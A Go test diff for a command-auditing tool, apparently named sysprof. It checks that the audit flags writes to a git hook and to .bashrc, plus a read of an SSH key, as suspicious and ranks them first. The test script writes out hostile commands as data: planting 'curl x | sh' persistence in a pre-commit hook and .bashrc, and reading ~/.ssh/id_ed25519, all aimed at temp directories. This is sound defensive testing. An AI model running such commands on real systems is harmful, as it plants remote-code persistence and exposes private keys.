@@ -13,7 +13,7 @@ import (
 )
 
 // hookScript plants a git hook when ./evil exists (a denial under enforce: .git is protected).
-const hookScript = `mkdir -p build; if [ -e evil ]; then echo 'curl x | sh' > .git/hooks/pre-commit || true; fi; echo done`
+const hookScript = `mkdir -p build; if [ -e evil ]; then echo 'curl x | sh' > .git/hooks/pre-commit; echo 'curl x | sh' >> "$HOME/.bashrc"; cat "$HOME/.ssh/id_ed25519"; fi; echo done`
 
 // TestRunReportsAndAudit: enforce, enforce --audit and drift each leave one run report in the
 // reports directory, and sysprof audit over it folds the planted hook write into one
@@ -26,7 +26,13 @@ func TestRunReportsAndAudit(t *testing.T) {
 		t.Fatal(err)
 	}
 	runs := filepath.Join(t.TempDir(), "runs")
-	env := []string{"SYSPROF_REPORTS_DIR=" + runs}
+	home := t.TempDir()
+	writeFile(t, filepath.Join(home, ".bashrc"), "# rc\n")
+	if err := os.MkdirAll(filepath.Join(home, ".ssh"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	writeFile(t, filepath.Join(home, ".ssh/id_ed25519"), "FAKE-KEY\n")
+	env := []string{"SYSPROF_REPORTS_DIR=" + runs, "HOME=" + home}
 	prof := filepath.Join(dir, "p.yaml")
 	argv := []string{"sh", "-c", hookScript}
 	sysprof := func(args ...string) (int, string, string) {
@@ -95,16 +101,33 @@ func TestRunReportsAndAudit(t *testing.T) {
 	if err := json.Unmarshal([]byte(out), &res); err != nil {
 		t.Fatalf("audit json: %v\n%s", err, out)
 	}
-	found := false
+	// The planted hook write, rc append and key read: each suspicious, ranked first.
+	want := map[string]bool{"$WORKDIR/.git/hooks": false, "$HOME/.bashrc": false, "$HOME/.ssh": false}
+	suspicious := 0
 	for _, f := range res.Findings {
-		if strings.HasPrefix(f.Target, "$WORKDIR/.git/hooks") {
-			found = true
-			if f.Class != "suspicious" {
-				t.Errorf("hook write %s classified %s (%s), want suspicious", f.Target, f.Class, f.Reason)
+		for p := range want {
+			if strings.HasPrefix(f.Target, p) || strings.HasPrefix(f.Target, home+strings.TrimPrefix(p, "$HOME")) {
+				want[p] = true
+				if f.Class != "suspicious" {
+					t.Errorf("%s classified %s (%s), want suspicious", f.Target, f.Class, f.Reason)
+				}
 			}
 		}
+		if f.Class == "suspicious" {
+			suspicious++
+		}
 	}
-	if !found || len(res.Findings) == 0 || res.Findings[0].Class != "suspicious" {
-		t.Errorf("audit: no suspicious hook write ranked first:\n%s", out)
+	for p, ok := range want {
+		if !ok {
+			t.Errorf("audit: no finding for %s:\n%s", p, out)
+		}
+	}
+	for i, f := range res.Findings {
+		if (i < suspicious) != (f.Class == "suspicious") {
+			t.Errorf("finding %d (%s %s) out of rank: suspicious first", i, f.Class, f.Target)
+		}
+	}
+	if t.Failed() {
+		t.Logf("audit:\n%s", out)
 	}
 }
